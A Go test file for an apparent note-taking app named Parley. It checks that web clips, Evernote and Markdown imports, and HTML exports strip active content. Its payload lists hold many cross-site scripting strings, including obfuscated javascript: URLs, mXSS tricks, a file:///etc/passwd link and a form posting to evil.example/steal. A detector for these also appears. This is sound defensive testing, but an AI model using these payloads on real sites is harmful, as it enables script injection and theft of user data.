package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/parley-notes/parley/app/vault"
	"github.com/yuin/goldmark"
	gmhtml "github.com/yuin/goldmark/renderer/html"
	"golang.org/x/net/html"
)

// scriptPayloads are what a hostile page, note or export tries to run:
// script, event handlers, javascript:, vbscript: and data: URLs (also
// hidden with entities, tabs, newlines, spaces and case), plugins,
// frames, forms, noscript and mXSS tricks, SVG and MathML, meta refresh,
// base and styles. Each must be gone from everything Parley shows or
// writes; the harmless text around them must stay.
var scriptPayloads = []string{
	`<script>alert('script')</script>`,
	`<img src="x.png" onerror="alert('onerror')">`,
	`<a href="javascript:alert('href')">js link</a>`,
	`<a href="&#106;avascript:alert('entity')">entity link</a>`,
	`<a href="&#x6A;avascript&#x3A;alert('hex')">hex link</a>`,
	`<a href="java&#9;script:alert('tab')">tab link</a>`,
	"<a href=\"java\nscript:alert('newline')\">newline link</a>",
	`<a href="  JaVaScRiPt:alert('case')">case link</a>`,
	`<a href="vbscript:msgbox('vb')">vb link</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
	`<iframe src="https://evil.example/frame"></iframe>`,
	`<embed src="https://evil.example/x.swf">`,
	`<object data="https://evil.example/x.swf"><param name="x" value="y"></object>`,
	`<form action="https://evil.example/steal"><input name="q" autofocus onfocus="alert('focus')"><button formaction="javascript:alert('fa')">go</button></form>`,
	`<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript>`,
	`<svg onload="alert('svg')"><script>alert('svgscript')</script></svg>`,
	`<svg><foreignObject><iframe src="javascript:alert('fo')"></iframe></foreignObject></svg>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert('refresh')">`,
	`<base href="javascript:/">`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<div style="background:url(javascript:alert('style'))">styled text</div>`,
	`<p onmouseover="alert('hover')">hover text</p>`,
	`<details open ontoggle="alert('toggle')"><summary>s</summary>d</details>`,
	`<template><script>alert('template')</script></template>`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<img srcset="javascript:alert('srcset') 1x" src="https://ok.example/pic.png">`,
	`<video><source onerror="alert('source')"></video>`,
	`<a xlink:href="javascript:alert('xlink')">xlink</a>`,
	`<p>&lt;script&gt;alert('escaped')&lt;/script&gt; stays text</p>`,
	// Last: a browser reads the rest of the page into this one.
	`<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>`,
}

// markdownPayloads are the same tricks in Markdown.
var markdownPayloads = []string{
	`[md js](javascript:alert('md'))`,
	`[md entity](&#106;avascript:alert('mdentity'))`,
	`[md case](JAVASCRIPT:alert('mdcase'))`,
	`[md data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[md vb](vbscript:msgbox('mdvb'))`,
	`[md file](file:///etc/passwd)`,
	`<javascript:alert('autolink')>`,
	"[md ref][evil]\n\n[evil]: javascript:alert('ref')",
	`![md img](javascript:alert('img'))`,
	`![md data img](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
}

// The harmless parts that must survive.
const (
	payloadText = "The visible sentence about the embassy talks."
	payloadLink = "https://ok.example/story"
)

// payloadHTML is an article with every payload inside it.
func payloadHTML() string {
	var b strings.Builder
	b.WriteString("<!DOCTYPE html><html><head><title>Hostile page</title></head><body><article><h1>Hostile page</h1>")
	fmt.Fprintf(&b, `<p>Read <a href="%s">the whole story</a>.</p>`, payloadLink)
	for i, p := range scriptPayloads {
		fmt.Fprintf(&b, "<p>%s Paragraph %d of a long enough article about talks in Istanbul and the embassies.</p>\n%s\n", payloadText, i, p)
	}
	b.WriteString("</article></body></html>")
	return b.String()
}

// payloadMarkdown is a note with every payload, HTML and Markdown.
func payloadMarkdown() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s Read [the whole story](%s).\n\n", payloadText, payloadLink)
	for _, p := range markdownPayloads {
		b.WriteString(p + "\n\n")
	}
	for _, p := range scriptPayloads {
		b.WriteString(p + "\n\n")
	}
	return b.String()
}

// TestScriptNeverSurvives pushes the payloads through every path that
// turns outside HTML or Markdown into something Parley shows or writes:
// the clip's snapshot and its Markdown, ENEX and Markdown imports, and the
// HTML brief that renders all of it. (The window's preview and the links
// it opens are tested in app/ui.)
func TestScriptNeverSurvives(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "vault")
	mustRun(t, dir, "demo")
	page := payloadHTML()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Write([]byte(page))
	}))
	defer srv.Close()
	var checked []string

	// The clip: its snapshot and the Markdown it stores.
	r := mustRun(t, dir, "clip", "--json", srv.URL+"/hostile")
	var clipped struct{ ID, Path string }
	must(t, json.Unmarshal([]byte(r.stdout), &clipped))
	clip := readRecord(t, dir, clipped.Path)
	if clip.Snapshot == "" {
		t.Fatal("the clip has no snapshot")
	}
	snap, err := os.ReadFile(filepath.Join(dir, filepath.FromSlash(clip.Snapshot)))
	must(t, err)
	checkInert(t, "clip snapshot", snap, payloadText, payloadLink)
	checkInert(t, "clip Markdown", renderRaw(t, clip.Body), payloadText, payloadLink)
	checked = append(checked, "clip snapshot", "clip Markdown")

	// An Evernote export and a Markdown folder.
	enex := filepath.Join(t.TempDir(), "hostile.enex")
	must(t, os.WriteFile(enex, []byte(enexWith("Hostile ENEX note", "<div>"+payloadText+` <a href="`+payloadLink+`">story</a></div>`+strings.Join(scriptPayloads, "\n"))), 0o644))
	mustRun(t, dir, "import", "--format", "enex", enex)
	folder := t.TempDir()
	must(t, os.WriteFile(filepath.Join(folder, "Hostile Markdown note.md"), []byte(payloadMarkdown()), 0o644))
	mustRun(t, dir, "import", "--format", "md", folder)
	for _, title := range []string{"Hostile ENEX note", "Hostile Markdown note"} {
		s := search(t, dir, `title:"`+title+`"`)
		if len(s.Hits) != 1 {
			t.Fatalf("%s: %d hits", title, len(s.Hits))
		}
		rec := readRecord(t, dir, s.Hits[0].Path)
		if title == "Hostile ENEX note" {
			// ENEX content is HTML: what Parley writes is its Markdown.
			checkInert(t, "ENEX import", renderRaw(t, rec.Body), payloadText, payloadLink)
			checked = append(checked, "ENEX import")
		} else if rec.Body != payloadMarkdown() {
			// A Markdown note is the user's text, kept as it is; the
			// brief below is where it becomes HTML.
			t.Errorf("the Markdown import changed the note")
		}
	}
	checked = append(checked, "Markdown import (kept as text, rendered by the brief)")

	// The HTML brief renders every record's Markdown, the hostile ones
	// included.
	out := t.TempDir()
	mustRun(t, dir, "export", "--format", "html", "--out", out)
	brief, err := os.ReadFile(filepath.Join(out, "brief.html"))
	must(t, err)
	if !bytes.Contains(brief, []byte(`http-equiv="Content-Security-Policy"`)) {
		t.Error("the brief has no Content-Security-Policy")
	}
	checkInert(t, "HTML brief", brief, payloadText, payloadLink)
	checked = append(checked, "HTML brief")
	report(t, fmt.Sprintf("script payloads: %d HTML and %d Markdown; paths checked: %s; active content found: none", len(scriptPayloads), len(markdownPayloads), strings.Join(checked, ", ")))
}

// readRecord reads a record file of the vault.
func readRecord(t *testing.T, dir, rel string) *vault.Record {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, filepath.FromSlash(rel)))
	must(t, err)
	rec := vault.Parse(b, rel)
	if rec.Broken() {
		t.Fatalf("%s: %s", rel, rec.Problem)
	}
	return rec
}

// renderRaw renders Markdown as the least careful renderer would, raw
// HTML passed through: what Parley stores must be inert even then.
func renderRaw(t *testing.T, md string) []byte {
	t.Helper()
	var buf bytes.Buffer
	must(t, goldmark.New(goldmark.WithRendererOptions(gmhtml.WithUnsafe())).Convert([]byte(md), &buf))
	return buf.Bytes()
}

// enexWith is an Evernote export of one web clip.
func enexWith(title, content string) string {
	return `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE en-export SYSTEM "http://xml.evernote.com/pub/evernote-export4.dtd">
<en-export export-date="20250411T090000Z" application="Evernote" version="10.80">
<note><title>` + title + `</title><created>20250201T100000Z</created>
<note-attributes><source>web.clip</source><source-url>https://evil.example.com/page</source-url></note-attributes>
<content><![CDATA[<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<en-note>` + content + `</en-note>]]></content></note>
</en-export>
`
}

// checkInert parses markup as a browser would and fails the test for
// anything in it that could run or load: a script-capable element, an
// event handler, a style, a URL that is not http, https, mailto, an
// in-page anchor or an inlined picture. The harmless text and link must
// still be there.
func checkInert(t *testing.T, what string, markup []byte, text, link string) {
	t.Helper()
	for _, bad := range activeContent(markup) {
		t.Errorf("%s keeps %s", what, bad)
	}
	for _, keep := range []string{text, link} {
		if !bytes.Contains(markup, []byte(keep)) {
			t.Errorf("%s lost %q:\n%s", what, keep, markup)
		}
	}
}

// activeContent lists what in markup could act in a browser.
func activeContent(markup []byte) []string {
	doc, err := html.Parse(bytes.NewReader(markup))
	if err != nil {
		return []string{"unparseable markup: " + err.Error()}
	}
	var found []string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			found = append(found, activeElement(n)...)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return found
}

func activeElement(n *html.Node) []string {
	var found []string
	switch n.Data {
	case "style":
		// The brief's own style sheet, in its head, is allowed (its
		// Content-Security-Policy allows inline styles and nothing else).
		if n.Parent == nil || n.Parent.Data != "head" {
			found = append(found, "<style>")
		}
	case "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
		"svg", "math", "base", "template", "noscript", "audio", "video", "source", "xmp", "noembed":
		found = append(found, "<"+n.Data+">")
	case "meta":
		// The brief's and the snapshot's own head: a charset, a
		// Content-Security-Policy and no referrer, nothing that moves.
		for _, a := range n.Attr {
			if a.Key == "http-equiv" && !strings.EqualFold(a.Val, "Content-Security-Policy") {
				found = append(found, "<meta http-equiv="+a.Val+">")
			}
		}
	case "link":
		if attrOf(n, "rel") != "canonical" {
			found = append(found, "<link rel="+attrOf(n, "rel")+">")
		}
	}
	for _, a := range n.Attr {
		key := strings.ToLower(a.Key)
		switch {
		case a.Namespace != "" || strings.Contains(key, ":"):
			found = append(found, "attribute "+a.Key)
		case strings.HasPrefix(key, "on"), key == "style", key == "formaction", key == "srcset":
			found = append(found, "attribute "+key+"="+a.Val)
		case key == "href" || key == "src" || key == "action" || key == "data" || key == "poster" || key == "background" || key == "cite":
			if !safeLink(n.Data, key, a.Val) {
				found = append(found, fmt.Sprintf("<%s %s=%q>", n.Data, key, a.Val))
			}
		}
	}
	return found
}

// safeLink accepts web and mail addresses, anchors, relative paths and
// inlined pictures; browsers ignore spaces, tabs and newlines in a scheme,
// so they are ignored here too.
func safeLink(elem, key, v string) bool {
	v = strings.ToLower(strings.Map(func(r rune) rune {
		if r <= ' ' || r == 0x7f {
			return -1
		}
		return r
	}, v))
	i := strings.IndexByte(v, ':')
	if i < 0 || strings.ContainsAny(v[:i], "/?#") {
		return true // relative
	}
	switch v[:i] {
	case "http", "https", "mailto":
		return true
	case "data":
		return elem == "img" && key == "src" && (strings.HasPrefix(v, "data:image/png;") || strings.HasPrefix(v, "data:image/jpeg;") || strings.HasPrefix(v, "data:image/gif;") || strings.HasPrefix(v, "data:image/webp;"))
	}
	return false
}

func attrOf(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

// TestActiveContentFinds proves the checker finds what it must.
func TestActiveContentFinds(t *testing.T) {
	for _, p := range append(scriptPayloads, `<a href="java&#10;script:x">x</a>`, `<a href=" data:text/html,x">x</a>`) {
		if strings.Contains(p, "stays text") {
			continue
		}
		if len(activeContent([]byte("<!DOCTYPE html><html><head></head><body><p>text</p>"+p))) == 0 {
			t.Errorf("the checker misses %s", p)
		}
	}
	if bad := activeContent([]byte(`<p><a href="https://ok.example/" rel="noreferrer">ok</a><img src="data:image/png;base64,iVBO"><a href="#top">top</a><a href="mailto:a@b.c">m</a></p>`)); len(bad) != 0 {
		t.Errorf("false alarm: %v", bad)
	}
}
